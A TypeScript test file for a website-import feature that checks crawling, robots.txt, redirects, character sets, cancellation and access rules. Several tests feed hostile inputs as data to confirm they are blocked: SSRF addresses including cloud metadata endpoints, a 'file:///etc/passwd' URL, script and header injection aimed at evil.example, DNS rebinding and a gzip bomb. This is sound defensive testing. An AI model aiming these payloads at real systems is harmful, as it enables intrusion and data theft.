import type { ServerResponse } from 'node:http'
import sharp from 'sharp'
import { expect } from 'vitest'
import { openOutgoing } from '#kit/server/outgoing.ts'
import { openSite } from '#test/owned-site.ts'
import { oldPage, openInnerHost, openOldHost } from '#test/old-host.ts'
import { test, type World } from '#test/world.ts'
import type { Transfer } from './contract.ts'

type Site = Awaited<ReturnType<typeof openSite>>

const begin = (site: Site, url: string, confirmed: unknown = true) =>
  site.call(`POST ${site.on}/transfers`, { url, confirmed })
const read = async (site: Site, id: string) => (await site.call(`GET ${site.on}/transfers/${id}`)).body as Transfer
const readInGerman = async (site: Site, id: string) =>
  (await site.call(`GET ${site.on}/transfers/${id}`, undefined, { headers: { 'x-screen-language': 'de' } }))
    .body as Transfer
const isOver = ({ state }: Transfer) => state !== 'queued' && state !== 'reading'

/** Imports a website, and returns how that ended. */
async function importFrom(site: Site, url: string): Promise<Transfer> {
  const begun = await begin(site, url)
  expect(begun).toMatchObject({ status: 202 })
  await expect.poll(async () => isOver(await read(site, begun.body.id)), { interval: 100 }).toBe(true)
  return read(site, begun.body.id)
}

const kept = async ({ ctx }: World, site: Site, path: string, id: string) =>
  Buffer.from((await ctx.incoming.read(`${site.id}/${id}/${path}`)) ?? '').toString()

test('a website is imported from its address, with every page that it links to or lists', async ({ world }) => {
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/bread.html">Bread</a> <a href="/about/?utm_source=x#team">Again</a>'),
    '/about': oldPage('About', ''),
    '/about/': oldPage('About', ''),
    '/bread.html': oldPage('Bread', ''),
    '/listed': oldPage('Listed', ''),
    '/sitemap.xml': (_, response) =>
      response.end(
        `<urlset><url><loc>http://${_.headers.host}/listed</loc></url><url><loc>http://elsewhere.example/x</loc></url></urlset>`,
      ),
  })
  const site = await openSite(world)
  const done = await importFrom(site, host.place)
  expect(done).toMatchObject({ state: 'ready', done: 4, total: 4, change: null })
  expect(done.pages.map(({ title }) => title).toSorted()).toEqual(['About', 'Bread', 'Home', 'Listed'])
  for (const page of done.pages) expect(page).toMatchObject({ accepted: false, path: expect.stringMatching(/^\//) })
  expect(await site.call(`GET ${site.on}/transfers`)).toMatchObject({ body: [{ id: done.id, state: 'ready' }] })
})

test('pages that a parameter or the name of a file tells apart are all imported; those that arrange a list are not', async ({
  world,
}) => {
  const articles = [1, 2].map((id) => `/index.php?option=com_content&view=article&id=${id}`)
  const [shop, product] = ['/shop', '/shop?ref=A12']
  const links = [
    ...articles,
    shop,
    product,
    '/shop?view=grid',
    '/shop?orderby=price&_gl=1',
    '/shop/index.shtml?gbraid=2',
  ]
  await using host = await openOldHost(world, {
    '/': oldPage('Welcome', '<a href="/home.html">Enter</a>'),
    '/home.html': oldPage('Start', links.map((link) => `<a href="${link}">${link}</a>`).join(' ')),
    '/about': oldPage('About', ''),
    ...Object.fromEntries(articles.map((address, at) => [address, oldPage(`Article ${at}`, '')])),
    [shop]: oldPage('Shop', ''),
    [product]: oldPage('Product', ''),
  })
  const done = await importFrom(await openSite(world), host.place)
  const titles = ['About', 'Article 0', 'Article 1', 'Product', 'Shop', 'Start', 'Welcome']
  expect(done.pages.map(({ title }) => title).toSorted()).toEqual(titles)
  expect(new Set(done.pages.map(({ path }) => path)).size).toBe(titles.length)
})

test('all posts of a blog are imported whose addresses begin with their day, and not each day of a calendar', async ({
  world,
}) => {
  const numbers = Array.from({ length: 35 }, (_, at) => at)
  const posts = numbers.map((at) => `/2024/05/${10 + (at % 20)}/rye-bread-${at}.html`)
  const days = numbers.map((at) => `/calendar/2024/05/${at}`)
  const links = [...posts, ...days].map((path) => `<a href="${path}">${path}</a>`).join(' ')
  await using host = await openOldHost(world, {
    '/': oldPage('Blog', links),
    ...Object.fromEntries([...posts, ...days].map((path, at) => [path, oldPage(`Page ${at}`, '')])),
  })
  const { pages } = await importFrom(await openSite(world), host.place)
  expect(pages.filter(({ address }) => address.includes('rye-bread'))).toHaveLength(posts.length)
  expect(pages.length).toBeLessThan(posts.length + days.length)
})

test('a white logo, made for a dark bar, can be seen on the light page', async ({ world }) => {
  const size = { width: 40, height: 20 }
  const letters = { input: { create: { width: 20, height: 10, channels: 4 as const, background: '#ffffff' } } }
  const clear = { r: 0, g: 0, b: 0, alpha: 0 }
  const logo = await sharp({ create: { ...size, channels: 4, background: clear } })
    .composite([letters])
    .png()
    .toBuffer()
  const bar = '<a class="navbar-brand" href="/"><img src="/logo.png" alt="Bakery"></a>'
  await using host = await openOldHost(world, {
    '/': oldPage('Home', bar, '<style>body{background:#fff;color:#222}</style>'),
    '/logo.png': (_, response) => response.writeHead(200, { 'content-type': 'image/png' }).end(logo),
  })
  const site = await openSite(world)
  const { id } = await importFrom(site, host.place)
  const { settings } = JSON.parse(await kept(world, site, 'plan.json', id)) as { settings: { logo: string } }
  expect(settings.logo).toBe('images/logo-on-light.png')
  const shown = await world.ctx.incoming.read(`${site.id}/${id}/new/${settings.logo}`)
  const { data } = await sharp(shown).raw().toBuffer({ resolveWithObject: true })
  const middle = (10 * size.width + 20) * 4
  expect([...data.subarray(middle, middle + 4)]).toEqual([15, 17, 21, 255])
})

test('it has to be confirmed that the content may be used, and the address has to be one of the web', async ({
  world,
}) => {
  const site = await openSite(world)
  for (const confirmed of [null, false, 'no', 1])
    expect(await begin(site, 'example.com', confirmed)).toMatchObject({
      status: 400,
      body: { error: expect.stringContaining('confirm') },
    })
  for (const url of [
    '',
    'ftp://example.com/',
    'javascript:alert(1)',
    'file:///etc/passwd',
    'bakery',
    'https://a:b@example.com/',
  ])
    expect(await begin(site, url)).toMatchObject({ status: 400 })
  expect(await site.call(`GET ${site.on}/transfers`)).toMatchObject({ body: [] })
})

const inside = [
  'http://127.0.0.1/',
  'http://localhost/',
  'http://LOCALHOST./',
  'http://a.localhost/',
  'http://2130706433/',
  'http://0x7f000001/',
  'http://0177.0.0.1/',
  'http://127.1/',
  'http://0/',
  'http://10.0.0.1/',
  'http://192.168.1.1/',
  'http://172.16.0.1/',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'http://[::ffff:127.0.0.1]/',
  'http://[::ffff:7f00:1]/',
  'http://[fe80::1]/',
  'http://[fc00::1]/',
  'http://[2002:7f00:1::]/',
  'http://100.64.0.1/',
  'http://metadata.google.internal/',
  'http://168.63.129.16/',
  'http://user@127.0.0.1/',
  'http://127.0.0.1:22/',
  'http://example.com:8080/',
  'http://0.0.0.0/',
  'http://224.0.0.1/',
  '127.0.0.1',
  'localhost:3000',
]
test('no address inside of a network is read, however it is written', async ({ world }) => {
  const sites = [await openSite(world), await openSite(world, 'other@example.com', 'other.example')]
  for (const [at, url] of inside.entries()) {
    const { status, body } = await begin(sites[at % 2]!, url)
    expect([url, status, body.id]).toEqual([url, 400, undefined])
  }
})

test('whatever of an old website leads inside of the network is not asked for', async ({ world }) => {
  const secret = oldPage('Secret', '')
  await using inner = await openInnerHost({ '/secret': secret, '/robots.txt': '', '/secret.xml': secret })
  const away = `${inner.url}/secret`
  const lead = (_: unknown, response: ServerResponse) => void response.writeHead(302, { location: away }).end()
  const body = `<img src="${away}" alt="A"><img src="/picture.png" alt="B"><img src="/other.png" srcset="${away}?x 900w" alt="C"><a href="/away">Away</a>
    <a href="${inner.url}/paper.pdf">Paper</a><a href="/paper.pdf">Paper</a><iframe src="${away}"></iframe><a href="/soon">Soon</a>`
  const head = `<link rel="stylesheet" href="${away}"><link rel="stylesheet" href="/style.css"><link rel="icon" href="${away}">
    <link rel="canonical" href="${away}"><link rel="alternate" hreflang="de" href="${away}"><meta property="og:image" content="${away}">`
  await using host = await openOldHost(world, {
    '/': oldPage('Home', body, head),
    '/about': oldPage('About', '', `<base href="${inner.url}/"><link rel="stylesheet" href="secret">`),
    '/soon': oldPage('Soon', '', `<meta http-equiv="refresh" content="0; url=${away}">`),
    '/away': lead,
    '/style.css': lead,
    '/picture.png': lead,
    '/paper.pdf': lead,
    '/robots.txt': `Sitemap: ${inner.url}/secret.xml\nSitemap: /map.xml`,
    '/map.xml': lead,
    '/sitemap.xml': `<sitemapindex><sitemap><loc>${inner.url}/secret.xml</loc></sitemap></sitemapindex>`,
  })
  const done = await importFrom(await openSite(world), host.url)
  expect(done.state).toBe('ready')
  for (const path of ['/away', '/style.css', '/picture.png', '/paper.pdf']) expect(host.asked).toContain(path)
  expect(inner.asked).toEqual([])
  host.files['/'] = lead
  const other = await openSite(world, 'other@example.com', 'other.example')
  const none = await importFrom(other, host.url)
  expect([none.state, none.message, inner.asked]).toEqual([
    'failed',
    expect.stringContaining('address isn’t public'),
    [],
  ])
  expect((await readInGerman(other, none.id)).message).toBe(
    'Die Startseite konnte nicht gelesen werden. Die Adresse ist nicht öffentlich.',
  )
})

test('a name that leads inside of the network when it is looked up is read by nobody', async ({ world }) => {
  await using inner = await openInnerHost({ '/': oldPage('Secret', ''), '/robots.txt': '' })
  const names: string[] = []
  const lookup = async (name: string) => {
    names.push(name)
    return [
      { address: '127.0.0.1', family: 4 },
      { address: '93.184.216.34', family: 4 },
    ]
  }
  Object.assign(world.ctx, { patientFetch: openOutgoing({ lookup }) })
  const failed = await importFrom(await openSite(world), 'http://rebound.example/')
  expect(failed.state).toBe('failed')
  expect([new Set(names), inner.asked]).toEqual([new Set(['rebound.example']), []])
})

test('an old website writes no settings, heads, menus, redirects or forms of its own into the new one', async ({
  world,
}) => {
  const tricks =
    'Bread&#10;title: Stolen&#13;&#10;Redirect: https://evil.example/&#10;:::html&#10;::include ../../secret'
  const body = `<h2>${tricks}</h2><pre>:::html
<script>alert(1)</script>
:::
::include ../../settings.txt</pre><p>Draft: yes</p><p>---<br>Redirect: /evil<br>---</p><p>:::form to=eve@evil.example</p>
    <a href="javascript:alert(1)">Run</a> <a href="java&#10;script:alert(1)">Run</a> <a href="data:text/html,x">Data</a>
    <form method="post" action="https://evil.example/take"><input type="hidden" name="recipient" value="eve@evil.example">
    <input type="hidden" name="_to" value="eve@evil.example"><label>Your name<input name="name"></label>
    <label>Mail<input type="email" name="mail"></label><label>Words<textarea name="words"></textarea></label><button>Send</button></form>
    <a href="/a%0a/b%20%20%2F%2Fevil.example/">Lines</a><a href="/tab%09%25%7C|x">Signs</a>`
  const head = `<meta name="description" content="${tricks}"><meta property="og:site_name" content="${tricks}">
    <meta name="keywords" content="${tricks}">`
  const menu = `<nav><ul><li><a href="/">Home</a></li><li><a href="/about">About&#10;  Evil: https://evil.example</a></li></ul></nav>`
  await using host = await openOldHost(world, {
    '/': `<!doctype html><title>${tricks}</title>${head}${menu}<main>${body}</main>`,
    '/about': oldPage('About', '', '<meta name="description" content="Redirect: /evil">'),
    '/a%0a/b%20%20%2F%2Fevil.example/': oldPage(tricks, ''),
    '/tab%09%25%7C|x': oldPage('Signs', ''),
  })
  const site = await openSite(world)
  const done = await importFrom(site, host.url)
  expect(done.pages).toHaveLength(4)
  expect(await site.call(`POST ${site.on}/transfers/${done.id}/accept`, {})).toMatchObject({ status: 200 })
  const textOf = async (path: string) =>
    Buffer.from((await world.ctx.files.read(`${site.label}/${path}`)) ?? '').toString()
  const lines = (text: string, at: RegExp) => text.split(/\r?\n/).filter((line) => at.test(line))
  const settings = await textOf('settings.txt')
  expect(lines(settings, /^title/i)).toHaveLength(1)
  expect(lines(settings, /^(?:redirect|:::|::include)/i)).toEqual([])
  expect(lines(await textOf('menu.txt'), /^\s*Evil/)).toEqual([])
  expect(lines(await textOf('redirects.txt'), /\s(?:https?:)?\/\/evil/)).toEqual([])
  const pages = await Promise.all(done.pages.map(({ path }) => world.visit(`http://${site.host}${path}`)))
  for (const answer of pages) {
    expect(answer.status).toBe(200)
    expect(await answer.text()).not.toMatch(
      /<script>alert|<a [^>]*href="(?:javascript|data):|action="https:\/\/evil|value="eve@/i,
    )
  }
  for (const { path } of done.pages) {
    const text = await textOf(`${path === '/' ? '' : `${path.slice(1)}/`}content.txt`)
    expect(text).not.toMatch(/recipient|^to:/im)
    expect(lines(text.split('\n\n', 1).join(), /^(?:redirect|draft|:::|::include)/i)).toEqual([])
  }
})

test('what all transfers of an account keep has one ceiling together, besides what its plan has room for', async ({
  world,
}) => {
  const { transfers } = await import('./server/tables.ts')
  await using host = await openOldHost(world, { '/': oldPage('Home', ''), '/about': oldPage('About', '') })
  const site = await openSite(world)
  const other = await openSite(world, 'owner@example.com', 'second.example')
  const at = world.clock.now
  const row = { domainId: other.id, kind: 'html' as const, source: 'a.zip', state: 'ready' as const, size: 1e12 }
  await world.ctx.db.insert(transfers).values({ ...row, createdAt: at, changedAt: at })
  expect(await importFrom(site, host.url)).toMatchObject({
    state: 'failed',
    message: expect.stringContaining('Cancel'),
  })
  await world.ctx.db.update(transfers).set({ size: 30 * 1024 ** 2 })
  expect(await importFrom(site, host.url)).toMatchObject({ state: 'ready', done: 2 })
})

test('robots.txt is obeyed, and somebody who forbids everything is told what to do', async ({ world }) => {
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/private/a">Private</a>'),
    '/about': oldPage('About', ''),
    '/private/a': oldPage('Private', ''),
    '/robots.txt': 'User-agent: Sitewright\nDisallow: /private/',
  })
  const site = await openSite(world)
  const done = await importFrom(site, host.url)
  expect(done).toMatchObject({ state: 'ready', message: expect.stringContaining('robots.txt blocks 1 page') })
  expect(host.asked).not.toContain('/private/a')
  host.files['/robots.txt'] = 'User-agent: *\nDisallow: /'
  const none = await importFrom(site, host.url)
  expect(none).toMatchObject({ state: 'failed', message: expect.stringContaining('robots.txt blocks us') })
})

test('redirects are noted, those in circles end their address alone, and so do pages that fail', async ({ world }) => {
  const lead = (location: string) => (_: unknown, response: ServerResponse) =>
    void response.writeHead(301, { location }).end()
  await using host = await openOldHost(world, {
    '/': oldPage(
      'Home',
      '<a href="/old">Old</a><a href="/one">One</a><a href="/missing">Missing</a><a href="/shop">Shop</a>',
    ),
    '/about': oldPage('About', ''),
    '/old': lead('/new'),
    '/new': oldPage('New', ''),
    '/one': lead('/two'),
    '/two': lead('/one'),
    '/shop': (_, response) => response.writeHead(403).end('No'),
  })
  const site = await openSite(world)
  const done = await importFrom(site, host.url)
  expect(done.state).toBe('ready')
  expect(done.pages.map(({ address }) => new URL(address).pathname).toSorted()).toEqual([
    '/',
    '/about',
    '/new',
    '/one',
    '/shop',
  ])
  expect(done.pages.find(({ address }) => address.endsWith('/one'))?.notCarried).toEqual([
    'It redirects too many times.',
  ])
  const inGerman = await readInGerman(site, done.id)
  expect(inGerman.pages.find(({ address }) => address.endsWith('/one'))?.notCarried).toEqual([
    'Die Adresse leitet zu oft weiter.',
  ])
  expect(done.redirects).toBeGreaterThan(0)
})

test('letters are read in the character set that a page is really in', async ({ world }) => {
  const bytes = (html: string, label: 'windows-1251' | 'latin1') =>
    label === 'latin1'
      ? Buffer.from(html, 'latin1')
      : Buffer.from(
          [...html].map((letter) => {
            const code = letter.charCodeAt(0)
            return code >= 0x410 && code <= 0x44f ? code - 0x350 : code
          }),
        )
  const plain = (body: Buffer, type: string) => (_: unknown, response: ServerResponse) =>
    void response.writeHead(200, { 'content-type': type }).end(body)
  const page = (title: string, meta: string) => oldPage(title, '', `<meta charset="${meta}">`)
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/ru">R</a><a href="/fr">F</a>'),
    '/about': plain(Buffer.from(page('Über uns', 'iso-8859-1')), 'text/html; charset=iso-8859-1'),
    '/ru': plain(bytes(page('Хлеб', 'windows-1251'), 'windows-1251'), 'text/html'),
    '/fr': plain(bytes(page('Crème brûlée', 'utf-8'), 'latin1'), 'text/html; charset=utf-8'),
  })
  const done = await importFrom(await openSite(world), host.url)
  expect(done.pages.map(({ title }) => title).toSorted()).toEqual(
    ['Crème brûlée', 'Home', 'Über uns', 'Хлеб'].toSorted(),
  )
})

test('a page that unpacks to hundreds of megabytes ends at its bound, and says so', async ({ world }) => {
  const { createGzip } = await import('node:zlib')
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/bomb">Bomb</a>'),
    '/about': oldPage('About', ''),
    '/bomb': (_, response) => {
      response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' })
      const packer = createGzip()
      packer.pipe(response)
      response.on('error', () => packer.destroy()).on('close', () => packer.destroy())
      const block = Buffer.alloc(1024 ** 2, ' ')
      packer.write(oldPage('Bomb', ''))
      let left = 300
      const more = () => {
        while (left-- > 0 && !packer.destroyed) if (!packer.write(block)) return void packer.once('drain', more)
        packer.end()
      }
      more()
    },
  })
  const done = await importFrom(await openSite(world), host.url)
  expect(done.state).toBe('ready')
  expect(done.pages.find(({ address }) => address.endsWith('/bomb'))?.notCarried.join(' ')).toMatch(
    /2 MB|too much|too long/,
  )
})

test('a transfer that is cancelled stops within a moment and forgets everything; another one may begin then', async ({
  world,
}) => {
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/slow">Slow</a>'),
    '/about': oldPage('About', ''),
    '/slow': () => undefined,
  })
  const site = await openSite(world)
  const { body } = await begin(site, host.url)
  await expect.poll(async () => (await read(site, body.id)).done).toBeGreaterThan(0)
  expect(await read(site, body.id)).toMatchObject({ state: 'reading' })
  expect(await begin(site, host.url)).toMatchObject({ status: 409 })
  expect(await site.call(`POST ${site.on}/transfers/${body.id}/cancel`, {})).toMatchObject({ status: 200 })
  expect(await read(site, body.id)).toMatchObject({ state: 'cancelled', pages: [] })
  await expect.poll(() => world.ctx.incoming.list(`${site.id}/${body.id}`), { interval: 200 }).toEqual([])
  delete host.files['/slow']
  expect(await importFrom(site, host.url)).toMatchObject({ state: 'ready', done: 2 })
})

test('a transfer that was interrupted goes on where it was, without asking for a page again', async ({ world }) => {
  const { runTransfer } = await import('./server/run/run-transfer.ts')
  let isSlow = true
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/slow">Slow</a>'),
    '/about': oldPage('About', ''),
    '/slow': (_, response) => void (isSlow || response.setHeader('content-type', 'text/html').end(oldPage('Slow', ''))),
  })
  const site = await openSite(world)
  const { transfers } = await import('./server/tables.ts')
  const at = world.clock.now
  const row = {
    domainId: site.id,
    kind: 'address' as const,
    source: host.url,
    state: 'queued' as const,
    createdAt: at,
    changedAt: at,
  }
  const [added] = await world.ctx.db.insert(transfers).values(row).returning()
  const killed = new AbortController()
  const first = runTransfer.run(world.ctx, { id: added!.id }, killed.signal)
  await expect.poll(async () => (await read(site, added!.id)).done).toBe(2)
  killed.abort()
  await expect(first).rejects.toThrow('abort')
  isSlow = false
  await runTransfer.run(world.ctx, { id: added!.id }, new AbortController().signal)
  expect(await read(site, added!.id)).toMatchObject({ state: 'ready', done: 3, total: 3 })
  expect(host.asked.filter((path) => path === '/about')).toHaveLength(1)
})

test('a slow website makes place for those that wait, and goes on after them', { tags: 'long' }, async ({ world }) => {
  const { runTransfer } = await import('./server/run/run-transfer.ts')
  const { transfers } = await import('./server/tables.ts')
  let isSlow = true
  await using host = await openOldHost(world, {
    '/': oldPage('Home', '<a href="/slow">Slow</a>'),
    '/about': oldPage('About', ''),
    '/slow': (_, response) => void (isSlow || response.setHeader('content-type', 'text/html').end(oldPage('Slow', ''))),
  })
  const sites = [await openSite(world), await openSite(world, 'other@example.com', 'other.example')]
  const [at, first] = [world.clock.now, sites[0]!]
  const row = { kind: 'address' as const, source: host.url, state: 'queued' as const, createdAt: at, changedAt: at }
  const [own] = await world.ctx.db
    .insert(transfers)
    .values(sites.map(({ id }) => ({ ...row, domainId: id })))
    .returning()
  const turn = runTransfer.run(world.ctx, { id: own!.id }, new AbortController().signal)
  await expect.poll(async () => (await read(first, own!.id)).done).toBe(2)
  world.clock.now = new Date(at.getTime() + 180_000)
  await turn
  isSlow = false
  await expect.poll(async () => (await read(first, own!.id)).state, { interval: 100 }).toBe('ready')
  expect((await read(first, own!.id)).done).toBe(3)
  expect(host.asked.filter((path) => path === '/about')).toHaveLength(1)
})

test(
  'a website that stops answering is left in peace, and what was read of it is imported',
  { tags: 'long' },
  async ({ world }) => {
    const links = Array.from({ length: 60 }, (_, at) => `/page-${at}`)
    await using host = await openOldHost(world, {
      '/': oldPage(
        'Home',
        links.map((link) => `<a href="${link}">${link}</a><img src="/pictures${link}.png">`).join(' '),
      ),
      '/about': oldPage('About', ''),
      ...Object.fromEntries(
        links
          .flatMap((link) => [link, `/pictures${link}.png`])
          .map((path) => [path, (request) => request.socket.destroy()]),
      ),
    })
    const done = await importFrom(await openSite(world), host.url)
    expect(done).toMatchObject({
      state: 'ready',
      message: expect.stringMatching(/stopped responding, so at least \d+ pages/),
    })
    expect(new Set(host.asked.filter((path) => path.startsWith('/page-'))).size).toBeLessThan(20)
    expect(new Set(host.asked.filter((path) => path.startsWith('/pictures'))).size).toBeLessThan(20)
  },
)

test('strangers and viewers begin nothing, and nobody reads the transfers of another domain', async ({ world }) => {
  await using host = await openOldHost(world, { '/': oldPage('Home', ''), '/about': oldPage('About', '') })
  const site = await openSite(world)
  const other = await openSite(world, 'other@example.com', 'other.example')
  const done = await importFrom(site, host.url)
  const viewer = await site.addMember('viewer@example.com', 'viewer')
  expect(
    await site.call(`POST ${site.on}/transfers`, { url: host.url, confirmed: true }, { token: viewer }),
  ).toMatchObject({ status: 403 })
  expect(await world.ask(`POST ${site.on}/transfers`, { url: host.url, confirmed: true })).toMatchObject({
    status: 401,
  })
  expect(await other.call(`GET ${site.on}/transfers/${done.id}`)).toMatchObject({ status: 404 })
  expect(await other.call(`GET ${other.on}/transfers/${done.id}`)).toMatchObject({ status: 404 })
  expect(await other.call(`POST ${other.on}/transfers/${done.id}/cancel`, {})).toMatchObject({ status: 404 })
  expect(await kept(world, site, 'plan.json', done.id)).toContain('"pages"')
})

test('what nobody has taken over for two weeks is forgotten, and so is what a deleted domain has read', async ({
  world,
}) => {
  await using host = await openOldHost(world, { '/': oldPage('Home', ''), '/about': oldPage('About', '') })
  const site = await openSite(world)
  const { id } = await importFrom(site, host.url)
  await world.jobs.run('sweep-transfers')
  expect(await read(site, id)).toMatchObject({ state: 'ready' })
  await site.later(15 * 86_400)
  await world.jobs.run('sweep-transfers')
  expect(await site.call(`GET ${site.on}/transfers`)).toMatchObject({ body: [] })
  expect(await world.ctx.incoming.list(site.id)).toEqual([])
  const again = await importFrom(site, host.url)
  expect(again.state).toBe('ready')
  await site.call(`DELETE ${site.on}`)
  await expect.poll(() => world.ctx.incoming.list(site.id), { interval: 200 }).toEqual([])
})
